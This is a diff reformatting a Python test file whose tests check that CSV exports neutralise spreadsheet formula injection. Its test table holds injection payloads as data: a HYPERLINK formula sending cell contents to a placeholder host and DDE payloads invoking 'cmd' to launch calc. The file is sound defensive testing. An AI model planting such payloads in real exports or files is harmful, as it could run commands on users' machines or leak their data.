@@ -17,7 +17,10 @@ from graph.query.run import format_result, run_query
 
 # (cell as written by a document, cell as the CSV must carry it)
 CELLS = (
-    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+    (
+        '=HYPERLINK("http://x.example/?"&A1,"click")',
+        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
+    ),
     ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
     ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
     ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -37,12 +40,18 @@ def test_safe_cell(written, carried):
 
 def _store():
     evidence = [w for w, _c in CELLS if w]
-    return make_store([
-        record(f"D/{i}", [ref("document", "T/1", "requestedBy", evidence=text)],
-               title=text, date="2020-01-01",
-               mandates=[mandate("requestedBy", "T/1", evidence=text)])
-        for i, text in enumerate(evidence, 1)
-    ])
+    return make_store(
+        [
+            record(
+                f"D/{i}",
+                [ref("document", "T/1", "requestedBy", evidence=text)],
+                title=text,
+                date="2020-01-01",
+                mandates=[mandate("requestedBy", "T/1", evidence=text)],
+            )
+            for i, text in enumerate(evidence, 1)
+        ]
+    )
 
 
 def _rows(text: str) -> list[list[str]]:
@@ -58,8 +67,11 @@ def test_query_csv_quotes_formulas():
 
 def test_chain_csv_quotes_formulas():
     store = _store()
-    rows = list(csv.DictReader(io.StringIO(format_chain(trace_chain(store, "T/1", down=True),
-                                                        "csv"), newline="")))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(format_chain(trace_chain(store, "T/1", down=True), "csv"), newline="")
+        )
+    )
     _assert_no_formula([r["evidence"] for r in rows])  # (the chain trims the text first)
     assert "'=1+1" in {r["evidence"] for r in rows}
 
